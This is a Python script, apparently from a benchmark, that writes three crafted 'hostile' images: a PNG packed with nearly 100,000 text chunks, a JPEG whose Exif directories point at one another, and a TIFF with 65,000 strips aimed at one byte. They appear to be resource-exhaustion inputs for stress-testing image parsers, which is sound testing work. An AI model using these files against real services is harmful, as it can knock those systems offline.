"""Writes the hostile files of bench/attack.sh into a folder.

    attack_files.py FOLDER
"""

import pathlib
import struct
import sys
import zlib

folder = pathlib.Path(sys.argv[1])
P = struct.pack


def png_of_many_chunks(count=99_990):
    def chunk(kind, data):
        return P(">I", len(data)) + kind + data + P(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", P(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
    pixel = chunk(b"IDAT", zlib.compress(b"\0" * 4)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"tEXt", b"Raw profile type") * count + pixel


def jpeg_of_looping_directories(copies=12, entries=500):
    """Returns Exif directories with entries that all point to a second directory, whose entries all name one maker note."""
    sub = 8 + 2 + entries * 12 + 4
    tail = sub + 2 + entries * 12 + 4
    exif = (
        b"II*\0\x08\0\0\0"
        + P("<H", entries) + P("<HHII", 0x8769, 4, 1, sub) * entries + P("<I", 8)
        + P("<H", entries) + P("<HHII", 0x927C, 7, 65536 - tail - 16, tail) * entries + P("<I", 0)
    )
    head = b"\xff\xd8\xff\xe0\x00\x02\xff\xc0\x00\x0b\x08\0\1\0\1\1\1\x11\0\xff\xda\0\x08\1\1\0\0\x3f\0"
    return head + (b"EXIFeXIf" + exif) * copies + b"\0" * 53_000 + b"\xff\xd9"


def tiff_of_small_strips(rows=65_000):
    """Returns a TIFF with a strip of one pixel per row, which all point to the same byte."""
    fields = 10
    base = 8 + 2 + fields * 12 + 4
    offsets = base + 2
    counts = offsets + 4 * rows
    entries = [(256, 4, 1, 1), (257, 4, 1, rows), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
               (273, 4, rows, offsets), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, rows, counts), (284, 3, 1, 1)]
    directory = P("<H", fields) + b"".join(P("<HHII", *entry) for entry in entries) + P("<I", 0)
    return b"II*\0\x08\0\0\0" + directory + b"\x80\0" + P("<I", base) * rows + P("<I", 1) * rows


(folder / "many_chunks.png").write_bytes(png_of_many_chunks())
(folder / "looping_directories.jpg").write_bytes(jpeg_of_looping_directories())
(folder / "small_strips.tif").write_bytes(tiff_of_small_strips())
